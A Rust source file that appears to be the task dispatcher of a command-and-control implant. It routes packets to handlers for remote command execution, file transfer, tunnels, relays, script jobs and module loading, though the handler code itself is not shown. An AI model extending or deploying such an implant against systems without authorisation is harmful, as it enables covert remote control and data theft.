//! Packet dispatcher — routes a task packet to its handler.
//!
//! The task catalogue is the compile-time [`TaskKind`] enum; unknown codes
//! get exactly one type-0 "invalid tasking ID" response. Handlers answer
//! through the response side channel and return `Result<(), TaskError>`; the
//! dispatcher translates an `Err` into a single type-0 response carrying the
//! correlation id. A handler failure never aborts the loop.

use crate::agent::Agent;
use crate::packet::TaskPacket;
use crate::tasks::TaskKind;

/// What the loop should do after a packet has been handled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Disposition {
    Continue,
    Exit,
}

impl Agent {
    /// Resolve and run the handler for one inbound packet.
    pub async fn dispatch(&self, packet: &TaskPacket) -> Disposition {
        let Some(kind) = TaskKind::from_code(packet.kind) else {
            tracing::warn!(code = packet.kind, "Unknown tasking code");
            self.send_error(&format!("invalid tasking ID: {}", packet.kind), &packet.id)
                .await;
            return Disposition::Continue;
        };

        if kind.is_reserved() {
            tracing::debug!(code = packet.kind, "Reserved tasking code, ignoring");
            return Disposition::Continue;
        }

        tracing::debug!(code = packet.kind, id = %packet.id, "Dispatching task");

        let data = packet.data.as_str();
        let id = packet.id.as_str();
        let result = match kind {
            TaskKind::Sysinfo => self.handle_sysinfo(id).await,
            TaskKind::Exit => self.handle_exit(id).await,
            TaskKind::RunCommand => self.handle_run_command(data, id).await,
            TaskKind::FileDownload => self.handle_file_download(data, id).await,
            TaskKind::FileUpload => self.handle_file_upload(data, id).await,
            TaskKind::DirectoryList => self.handle_directory_list(data, id).await,
            TaskKind::PackedExecute => self.handle_packed_execute(data, id).await,
            TaskKind::JobList => self.handle_job_list(id).await,
            TaskKind::JobStop => self.handle_job_stop(data, id).await,
            TaskKind::TunnelStart => self.handle_tunnel_start(id).await,
            TaskKind::TunnelData => self.handle_tunnel_data(data).await,
            TaskKind::RelayStart => self.handle_relay_start(data, id).await,
            TaskKind::ScriptRun | TaskKind::ScriptRunAlt => {
                self.handle_script_run(kind, data, id).await
            }
            TaskKind::ScriptRunSave => self.handle_script_run_save(data, id).await,
            TaskKind::ScriptRunDisk => self.handle_script_run_disk(data, id).await,
            TaskKind::JobStart => self.handle_job_start(data, id).await,
            TaskKind::ShellJob => self.handle_shell_job(data, id).await,
            TaskKind::ScriptCommand => self.handle_script_command(data, id).await,
            TaskKind::ModuleLoad => self.handle_module_load(data, id).await,
            TaskKind::ModuleList => self.handle_module_list(data, id).await,
            TaskKind::ModuleRemove => self.handle_module_remove(data, id).await,
            TaskKind::ProfileSwitch | TaskKind::ListenerRename => {
                self.handle_profile_placeholder(kind, id).await
            }
            // Reserved codes are filtered above.
            TaskKind::ProxyConfig | TaskKind::ReservedJobSave | TaskKind::Reserved119 => Ok(()),
        };

        if let Err(e) = result {
            tracing::warn!(code = packet.kind, id = %packet.id, "Task failed: {e}");
            self.send_error(&e.to_string(), &packet.id).await;
            return Disposition::Continue;
        }

        if kind == TaskKind::Exit {
            Disposition::Exit
        } else {
            Disposition::Continue
        }
    }

    /// Emit a type-0 error response; a transport failure here can only be
    /// logged.
    pub(crate) async fn send_error(&self, message: &str, correlation_id: &str) {
        if let Err(e) = self.responses.send_error(message, correlation_id).await {
            tracing::warn!("Failed to send error response: {e}");
        }
    }
}
